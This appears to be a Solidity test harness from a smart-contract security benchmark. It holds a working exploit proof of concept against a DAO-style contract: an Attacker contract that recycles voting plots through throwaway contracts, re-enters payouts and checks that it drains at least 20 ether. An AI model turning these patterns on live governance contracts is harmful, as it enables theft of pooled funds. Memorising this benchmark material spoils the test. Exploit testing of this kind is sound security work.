// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.24;

import "./RampionGardens.sol";

// assay-canary-4969bdd9-5848-4687-8cf0-d706e60d25c8

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// An account that votes, moves and gives plots back when it is told to.
contract Cousin {
    RampionGardens internal gardens;

    constructor(RampionGardens gardens_) {
        gardens = gardens_;
    }

    function vote(uint256 id) external {
        gardens.vote(id, true);
    }

    function move(address payable payee, uint96 amount) external {
        gardens.move(payee, amount, "a bench");
    }

    function back(uint128 plots) external {
        gardens.pass(msg.sender, plots);
    }
}

contract Attacker {
    RampionGardens internal gardens;
    uint256 internal id;
    bool internal again;

    receive() external payable {
        if (!again) return;
        again = false;
        try gardens.carryOut(id) {} catch {}
    }

    function join(RampionGardens gardens_) external {
        gardens = gardens_;
    }

    function tryVote() private {
        try gardens.vote(id, true) {} catch {}
    }

    function _relay(uint256 count) private {
        uint128 mine = gardens.plotsOf(address(this));
        for (uint256 i = 0; i < count; ++i) {
            Cousin c = new Cousin(gardens);
            gardens.pass(address(c), mine);
            try c.vote(id) {} catch {}
            try c.move(payable(address(this)), 30 ether) {} catch {}
            c.back(mine);
        }
    }

    function canvass() external {
        id = gardens.move(payable(address(this)), 30 ether, "a fountain");
        tryVote();
        tryVote();
        gardens.pass(address(this), gardens.plotsOf(address(this)));
        tryVote();
        try gardens.pass(address(this), gardens.plotsOf(address(this)) + 1) {} catch {}
        try gardens.plotsAt(address(this), block.number) {} catch {}
        try gardens.carryOut(id) {} catch {}
        _relay(2);
    }

    function nextBlock() external {
        _relay(2);
        tryVote();
    }

    function late() external {
        tryVote();
        try gardens.carryOut(id) {} catch {}
    }

    function run() external {
        again = true;
        try gardens.carryOut(id) {} catch {}
        again = false;
        try gardens.carryOut(id) {} catch {}
        try gardens.carryOut(id + 1) {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    RampionGardens internal gardens;
    Attacker internal hare;
    address[] internal founders;

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.roll(500);
        hare = new Attacker();
        for (uint160 i = 1; i < 8; ++i) founders.push(address(0xD0000 + i));
        for (uint256 i = 0; i < 3; ++i) founders.push(address(hare));
        gardens = new RampionGardens(founders, 10);
        hare.join(gardens);
        vm.deal(address(gardens), 50 ether);
        vm.roll(501);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(gardens).call(data);
    }

    function _vote(uint256 member, uint256 id, bool aye) private {
        vm.prank(founders[member]);
        gardens.vote(id, aye);
    }

    function test_Regular() public {
        require(gardens.totalPlots() == 100 && gardens.plotsOf(address(hare)) == 30, "dealt");
        require(gardens.chestPerPlot() == 0.5 ether, "board");
        require(!_try(abi.encodeCall(gardens.move, (payable(address(1)), 1, "none"))), "no plots");
        vm.prank(founders[0]);
        gardens.pass(founders[1], 4);
        vm.roll(503);
        require(gardens.plotsAt(founders[0], 500) == 10 && gardens.plotsAt(founders[0], 502) == 6, "marks");
        require(gardens.plotsAt(founders[0], 499) == 0 && gardens.plotsAt(founders[1], 501) == 14, "marks before");

        vm.prank(founders[1]);
        uint256 id = gardens.move(payable(address(0x5EED)), 12 ether, "seed for all");
        for (uint256 i = 0; i < 5; ++i) _vote(i, id, true);
        _vote(5, id, false);
        vm.prank(founders[1]);
        require(!_try(abi.encodeCall(gardens.vote, (id, true))), "once");
        vm.warp(block.timestamp + 7 days);
        require(!_try(abi.encodeCall(gardens.carryOut, (id))), "cooling");
        vm.warp(block.timestamp + 1 days);
        require(!_try(abi.encodeCall(gardens.carryOut, (id))), "half is not more than half");

        vm.prank(founders[1]);
        id = gardens.move(payable(address(0x5EED)), 12 ether, "seed for all, once more");
        for (uint256 i = 0; i < 6; ++i) _vote(i, id, true);
        vm.warp(block.timestamp + 8 days);
        gardens.carryOut(id);
        require(address(0x5EED).balance == 12 ether && gardens.paidOut() == 12 ether, "paid");
        require(!_try(abi.encodeCall(gardens.carryOut, (id))), "once");

        uint256 held = address(gardens).balance;
        (bool ok, ) = address(gardens).call{value: 1 ether}("");
        require(ok && address(gardens).balance == held + 1 ether, "dues");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Plots are passed to somebody, by who has them, and counted in blocks that are over.
    function test_RefusesPlots() public {
        refuses(founders[0], RampionGardens.NoSuchMember.selector);
        gardens.pass(address(0), 1);
        refuses(founders[0], abi.encodeWithSelector(RampionGardens.NotThatMany.selector, 10));
        gardens.pass(founders[1], 11);
        vm.expectRevert(abi.encodeWithSelector(RampionGardens.OutOfTime.selector, 0, block.number - 1));
        gardens.plotsAt(founders[0], block.number);
        try new RampionGardens(new address[](0), 1) {
            revert("no plots at all");
        } catch (bytes memory why) {
            require(keccak256(why) == keccak256(abi.encodeWithSelector(RampionGardens.NotThatMany.selector, 0)), "none");
        }
        address[] memory two = new address[](2);
        (two[0], two[1]) = (founders[0], founders[1]);
        try new RampionGardens(two, type(uint128).max) {
            revert("too many plots");
        } catch (bytes memory why) {
            require(bytes4(why) == RampionGardens.NotThatMany.selector, "too many");
        }
    }

    /// Votes in time, by members; money in time, and to who takes it.
    function test_RefusesMotions() public {
        vm.prank(founders[0]);
        uint256 id = gardens.move(payable(address(0x5EED)), 1 ether, "seed");
        refuses(address(0xBEE), abi.encodeWithSelector(RampionGardens.NoPlots.selector, address(0xBEE)));
        gardens.vote(id, true);
        for (uint256 i = 0; i < 6; ++i) _vote(i, id, true);
        uint256 from = block.timestamp + 8 days;
        bytes memory late = abi.encodeWithSelector(RampionGardens.OutOfTime.selector, from, from + 21 days);
        vm.warp(from - 2 days);
        refuses(founders[6], RampionGardens.VotingOver.selector);
        gardens.vote(id, true);
        vm.warp(from - 1);
        vm.expectRevert(late);
        gardens.carryOut(id);
        vm.warp(from + 21 days);
        vm.expectRevert(late);
        gardens.carryOut(id);
        Cousin cousin = new Cousin(gardens);
        vm.prank(founders[0]);
        id = gardens.move(payable(address(cousin)), 1 ether, "a cousin");
        for (uint256 i = 0; i < 6; ++i) _vote(i, id, true);
        vm.warp(block.timestamp + 8 days);
        vm.expectRevert(RampionGardens.Refused.selector);
        gardens.carryOut(id);
    }

    function exploit() public {
        hare.canvass();
        vm.roll(502);
        hare.nextBlock();
        vm.warp(block.timestamp + 6 days);
        hare.late();
        vm.warp(block.timestamp + 2 days);
        hare.run();
        vm.warp(block.timestamp + 21 days);
        hare.late();
    }

    function test_Exploit() public {
        uint256 before = address(hare).balance;
        exploit();
        require(address(hare).balance - before >= 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(gardens);
    }

    function attacker() public view returns (address) {
        return address(hare);
    }
}
